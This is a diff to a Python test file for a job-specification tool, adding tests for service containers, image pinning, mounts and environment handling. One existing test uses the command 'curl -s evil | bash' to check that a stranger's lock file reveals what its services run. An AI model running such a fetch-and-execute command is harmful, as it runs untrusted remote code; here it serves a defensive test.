@@ -12,7 +12,8 @@ import yaml
 
 from jobspec.cli.commands.explain import _values
 from jobspec.cli.consent import _deeds
-from jobspec.plan import Plan, ReadyPlan, ServicePlan, from_json, to_json
+from jobspec.cli.plan_picture import stage_rows
+from jobspec.plan import Mount, Plan, ReadyPlan, ServicePlan, from_json, to_json
 from jobspec.planning.lock import lock_text
 from jobspec.planning.resolve import Resolved, resolve
 from jobspec.spec.find_site import parse_cluster
@@ -145,3 +146,83 @@ def test_explain_shows_each_value_with_its_origin(tmp_path: Path) -> None:
 def test_a_stranger_s_lock_shows_what_its_services_run(tmp_path: Path) -> None:
     found = resolved(tmp_path, {"name": "a", "command": ["curl -s evil | bash"], "shell": True})
     assert ("runs", "curl -s evil | bash") in list(_deeds(found))
+
+
+CONTAINERS: dict[str, Any] = {**SITE, "container": {"runtime": "bubblewrap"}, "env": {"SITE": "lab"}}
+IMAGES = {
+    "container": {
+        "image": "/images/train",
+        "env": {"TRAINS": "1"},
+        "mounts": [{"source": "/t", "target": "/t"}],
+    }
+}
+
+
+def own(folder: Path, **container: Any) -> Resolved:
+    service = {"name": "judge", "command": ["serve"], "container": container}
+    return resolved(folder, service, site=CONTAINERS, **IMAGES)
+
+
+def test_a_service_s_own_container_is_settled_like_the_run_s(tmp_path: Path) -> None:
+    """Its own image, interpreter and mounts; the site's environment; and the run's folders."""
+    mounts = [{"source": "/j", "target": "/models", "read_only": True}]
+    plan = own(tmp_path, image="./judge", python="/opt/python", mounts=mounts, env={"A": "b"}).ready_plan
+    container = plan.services[0].container
+    assert container is not None
+    assert (container.runtime, container.image) == ("bubblewrap", str(tmp_path / "judge"))
+    assert (container.python, dict(container.env)) == ("/opt/python", {"A": "b", "SITE": "lab"})
+    assert container.mounts == (Mount("/j", "/models", True), Mount("/raid", "/raid"))
+    assert (plan.container.image, plan.container.mounts[0]) == ("/images/train", Mount("/t", "/t"))
+    assert from_json(to_json(plan)) == plan
+
+
+def test_a_site_without_containers_runs_it_on_the_node_where_that_is_allowed(tmp_path: Path) -> None:
+    found = resolved(tmp_path, {"name": "judge", "command": ["serve"], "container": {"image": "/images/j"}})
+    (finding,) = [item for item in found.findings if item.is_error]
+    assert (finding.rule, finding.path) == ("service.no-runtime", "services[0].container")
+    assert found.ready_plan.services[0].container is None
+
+
+def test_the_lock_pins_the_image_of_a_service(tmp_path: Path) -> None:
+    digest = "sha256:" + "a" * 64
+    site = {**SITE, "container": {"runtime": "podman"}}
+    images = {"container": {"image": "/images/train"}}
+    judge = {"name": "judge", "command": ["serve"], "container": {"image": f"r.example/judge@{digest}"}}
+    found = resolved(tmp_path, judge, site=site, **images)
+    locked = yaml.safe_load(lock_text(found))
+    (pinned,) = locked["services"]
+    assert pinned["container"] == {"image": f"r.example/judge@{digest}", "python": "python3"}
+    assert locked["lock"]["services"] == {"judge": {"image": digest}}
+    again = resolved(tmp_path / "elsewhere", pinned, site=site, **images)
+    assert again.ready_plan.services == found.ready_plan.services
+
+
+def test_images_of_services_are_shown(tmp_path: Path) -> None:
+    found = own(tmp_path, image="/images/judge", env={"A": "b"})
+    shown = _values(found)
+    assert shown["services[0].container.image"][0] == "/images/judge"
+    assert shown["services[0].container.python"] == ("python3", "default")
+    assert ("image of judge", "read from /images/judge") in stage_rows(found.ready_plan, ())
+    deeds = list(_deeds(found))
+    assert ("runs in", "image /images/judge") in deeds and ("sets", "A=b") in deeds
+
+
+def test_tag_of_a_service_s_image_is_not_known(tmp_path: Path) -> None:
+    site = {**SITE, "container": {"runtime": "podman", "ask_registry": False}}
+    judge = {"name": "judge", "command": ["serve"], "container": {"image": "r.example/judge:latest"}}
+    found = resolved(tmp_path, judge, site=site, container={"image": "/images/train"})
+    told = [(item.rule, item.path) for item in found.findings if item.rule == "container.image-latest"]
+    assert told == [("container.image-latest", "services[0].container.image")]
+
+
+def test_base_s_image_of_a_service_is_meant_from_its_folder(tmp_path: Path) -> None:
+    (tmp_path / "common").mkdir()
+    (tmp_path / "common/judge.sqsh").write_text("")
+    (tmp_path / "common/base.yaml").write_text(
+        "version: 1\nframework: command\n"
+        "services: [{name: a, command: [x], container: {image: judge.sqsh}}]\n"
+    )
+    (tmp_path / "spec.yaml").write_text("base: common/base.yaml\nname: x\ntrain: {command: [train]}\n")
+    (service,) = load_spec(tmp_path / "spec.yaml", env={}).spec.services
+    assert service.container is not None
+    assert service.container.image == str(tmp_path / "common/judge.sqsh")
